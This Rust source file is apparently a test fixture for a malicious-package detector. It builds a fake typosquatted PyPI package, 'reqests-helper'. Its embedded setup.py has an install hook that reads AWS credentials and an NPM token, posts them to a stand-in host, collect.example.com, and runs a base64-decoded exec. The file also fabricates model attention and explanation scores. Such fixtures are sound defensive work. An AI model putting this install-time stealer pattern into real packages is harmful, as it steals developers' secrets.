//! A case built by hand: what it shows does not move when the extractor or the model gets better.

use std::sync::Arc;
use std::time::Duration;

use crate::common::packages;
pub use crate::common::packages::file;
use cerebro::behavior::{Feature, ModelText, Piece, Sequence, SequenceEntry, Step};
use cerebro::case::{Case, State, Timing, Verdict};
use cerebro::model::explain::{Explanation, Method};
use cerebro::model::{Judgement, Token, Window};
use cerebro::package::{Ecosystem, Entry, File, Loss, Manifest, Oddity, Package, Phase, Skip, Target};
use cerebro::syntax::{Doc, Layer};
use cerebro::text::{Source, Span};

/// A harmless imitation of an install-time stealer: reserved names only.
const SETUP: &str = "\
from setuptools import setup
from setuptools.command.install import install
import base64, os, urllib.request


class Install(install):
    \"\"\"Runs when the package is installed.\"\"\"

    def run(self):
        install.run(self)
        home = os.path.expanduser('~')
        token = os.environ.get('NPM_TOKEN', '')
        if not os.environ.get('CI'):
            data = open(home + '/.aws/credentials').read()
            urllib.request.urlopen('https://collect.example.com/in', data=(token + data).encode())
        exec(base64.b64decode('cHJpbnQoMSk='))


setup(name='reqests-helper', version='1.0.3', cmdclass={'install': Install})
";

const INIT: &str = "\
\"\"\"Helpers for requests.\"\"\"
import platform


def describe(url: str) -> dict:
    # One request, nothing else.
    return {'url': url, 'system': platform.system()}
";

const LAYER: &str = "print(1)\n";

pub fn package_of(files: Vec<File>) -> Package {
    Package {
        path: "samples/reqests-helper-1.0.3.tar.gz".to_owned(),
        sha256: "3fa9b2c1d0e4f5a69788c0ffee11223344556677889900aabbccddeeff001122".to_owned(),
        size: 2381,
        name: Some("reqests-helper".to_owned()),
        version: Some("1.0.3".to_owned()),
        manifest: Manifest { description: Some("Helpers for requests".to_owned()), ..Manifest::default() },
        entries: vec![
            Entry { phase: Phase::Install, name: "setup.py".to_owned(), target: Target::File(5) },
            Entry { phase: Phase::Import, name: "reqests_helper".to_owned(), target: Target::File(3) },
        ],
        ..packages::package(Ecosystem::Pypi, "reqests-helper-1.0.3/", files)
    }
}

pub fn package() -> Package {
    let root = "reqests-helper-1.0.3/";
    let at = |path: &str| format!("{root}{path}");
    let logo: Vec<u8> = b"\x89PNG\r\n\x1a\n".iter().copied().chain(0..=255).collect();
    let mut package = package_of(vec![
        file(&at("PKG-INFO"), "Metadata-Version: 2.1\nName: reqests-helper\nVersion: 1.0.3\n"),
        file(&at("README.md"), "# reqests-helper\n\nHelpers for `requests`.\n"),
        File { path: at("docs/logo.png"), bytes: logo.into(), source: None },
        file(&at("reqests_helper/__init__.py"), INIT),
        file(&at("reqests_helper/版本.py"), "VERSION = '1.0.3'\n"),
        file(&at("setup.py"), SETUP),
    ]);
    package.skipped.push(Skip::new(Loss::Member, at("data/big.bin"), "is 90 MB, the limit is 64 MB"));
    package.oddities.push(Oddity::new("", "40 bytes follow the archive"));
    package
}

fn step(entry: usize, phase: Phase, feature: Feature, detail: &str, doc: Doc, text: &str, needle: &str) -> Step {
    let start = text.find(needle).unwrap();
    let span = Span { start, end: start + needle.len() };
    let (line, column) = Source::new(text.to_owned()).line_column(start);
    Step {
        entry,
        phase,
        feature,
        detail: detail.to_owned(),
        doc,
        span,
        line,
        column,
        call_path: Vec::new(),
        call_sites: Vec::new(),
        guarded: false,
        count: 1,
        why: cerebro::behavior::Why::default(),
    }
}

pub fn sequence() -> Sequence {
    let setup = Doc::File(5);
    let install = |feature, detail: &str, needle: &str| step(0, Phase::Install, feature, detail, setup, SETUP, needle);
    let mut read = install(Feature::ReadSecret, "file aws credentials", "open(home + '/.aws/credentials')");
    read.guarded = true;
    read.call_path = vec!["Install.run".to_owned()];
    let mut send = install(
        Feature::SendData,
        "send file secret url other",
        "urllib.request.urlopen('https://collect.example.com/in', data=(token + data).encode())",
    );
    send.guarded = true;
    let mut environment = install(Feature::CallSystem, "os environ npm token", "os.environ.get('NPM_TOKEN', '')");
    environment.count = 2;
    let mut run = step(0, Phase::Install, Feature::EvaluateCode, "exec", Doc::Layer(0), LAYER, "print(1)");
    run.call_path = vec!["Install.run".to_owned(), "exec".to_owned()];
    let import = step(1, Phase::Import, Feature::ImportSystem, "platform", Doc::File(3), INIT, "import platform");
    let call = step(2, Phase::Run, Feature::CallSystem, "platform system", Doc::File(3), INIT, "platform.system()");
    let span = Span { start: SETUP.find("base64.b64decode(").unwrap(), end: SETUP.find("='))").unwrap() + 3 };
    let recipe = vec!["base64".to_owned(), "exec".to_owned()];
    let found = Layer::found(setup, span, recipe, Arc::new(Source::new(LAYER.to_owned())));
    let layer = Layer { sha256: "00".repeat(32), ..found };
    let entry = |phase, name: &str| SequenceEntry { phase, name: name.to_owned() };
    Sequence {
        entries: vec![
            entry(Phase::Install, "setup.py"),
            entry(Phase::Import, "reqests_helper"),
            entry(Phase::Run, "not reached: describe"),
        ],
        steps: vec![
            install(Feature::ImportEncoding, "base64", "base64"),
            install(Feature::ImportSystem, "os", "os"),
            install(Feature::ImportNetwork, "urllib request", "urllib.request"),
            environment,
            install(Feature::CheckEnvironment, "check ci", "os.environ.get('CI')"),
            read,
            install(Feature::UseUrl, "url other", "'https://collect.example.com/in'"),
            send,
            install(Feature::UseBase64, "base64 string", "'cHJpbnQoMSk='"),
            install(Feature::RunDecoded, "exec base64", "exec(base64.b64decode('cHJpbnQoMSk='))"),
            run,
            import,
            call,
        ],
        layers: vec![layer],
        ..Sequence::default()
    }
}

/// The details of the steps as the model's text, a piece each.
pub fn model_text(sequence: &Sequence) -> ModelText {
    let mut text = ModelText::default();
    for (index, step) in sequence.steps.iter().enumerate() {
        let start = text.text.len();
        text.text.push_str(&step.detail);
        text.pieces.push(Piece { range: start..text.text.len(), steps: vec![index], files: vec![] });
        text.text.push(' ');
    }
    text
}

/// A judgement with made-up attention: two layers of two heads, some steps hot.
pub fn judgement(text: &ModelText, probability: f32) -> Judgement {
    let special = |text: &str, at: usize| Token { text: text.to_owned(), id: 101, range: at..at, piece: None };
    let mut tokens = vec![special("[CLS]", 0)];
    for (index, piece) in text.pieces.iter().enumerate() {
        let mut at = piece.range.start;
        for word in text.text[piece.range.clone()].split(' ').filter(|w| !w.is_empty()) {
            // Long words come in two, as a word-piece vocabulary has them.
            let cut = if word.len() > 6 { 4 } else { word.len() };
            for (part, mark) in [(&word[..cut], ""), (&word[cut..], "##")] {
                if !part.is_empty() {
                    let range = at..at + part.len();
                    tokens.push(Token { text: format!("{mark}{part}"), id: 1, range, piece: Some(index) });
                    at += part.len();
                }
            }
            at += 1;
        }
    }
    tokens.push(special("[SEP]", text.text.len()));
    let map = |hot: usize| -> Vec<f32> {
        let raw: Vec<f32> = tokens
            .iter()
            .map(|t| t.piece.map_or(2.0, |p| if p % 5 == hot { 3.0 } else { 0.2 + (p % 3) as f32 * 0.3 }))
            .collect();
        let sum: f32 = raw.iter().sum();
        raw.into_iter().map(|v| v / sum).collect()
    };
    let cls_attention = vec![vec![map(0), map(2)], vec![map(4), map(0)]];
    let window = Window { tokens, logits: [-1.5, 1.9], cls_attention };
    Judgement {
        probability,
        threshold: 0.5,
        windows: vec![window],
        margins: cerebro::model::Margins::default(),
        device: "cpu".to_owned(),
    }
}

/// A made-up explanation: every third piece speaks against, and each method starts elsewhere.
pub fn explanation(case: &Case, method: Method) -> Explanation {
    let score = |piece: usize| {
        let strength = 1.0 + ((piece + method as usize) % 5) as f64;
        if method.signed() && piece % 3 == 1 { -strength } else { strength }
    };
    let judgement = case.verdict.as_ref().unwrap().judgement.as_ref().unwrap();
    let of_token = |token: &Token| token.piece.map_or(0.0, score);
    Explanation {
        method,
        note: method.note().to_owned(),
        tokens: judgement.windows.iter().map(|window| window.tokens.iter().map(of_token).collect()).collect(),
        pieces: (0..case.text.pieces.len()).map(score).collect(),
    }
}

pub fn read(package: Package, sequence: Sequence) -> Case {
    let text = model_text(&sequence);
    let (indicators, _) = cerebro::evidence::indicator::collect(&package, &sequence);
    let evidence = cerebro::evidence::collect(&package, &sequence);
    let timing = Timing {
        open: Duration::from_millis(12),
        syntax: Duration::from_millis(34),
        behavior: Duration::from_millis(5),
        model: Duration::ZERO,
    };
    let mut case = Case {
        reading: cerebro::behavior::Reading::default(),
        package: Arc::new(package),
        sequence: Arc::new(sequence),
        text: Arc::new(text),
        evidence: Arc::new(evidence),
        indicators: Arc::new(indicators),
        brief: Arc::default(),
        external: Arc::default(),
        verdict: None,
        timing,
    };
    case.brief = Arc::new(cerebro::case::story::brief(&case));
    case
}

pub fn judged(mut case: Case, probability: f32) -> Case {
    let judgement = judgement(&case.text, probability);
    let state = if probability >= 0.5 { State::Malicious } else { State::Benign };
    case.verdict = Some(Verdict { state, why: None, judgement: Some(Arc::new(judgement)) });
    case.timing.model = Duration::from_millis(70);
    case
}
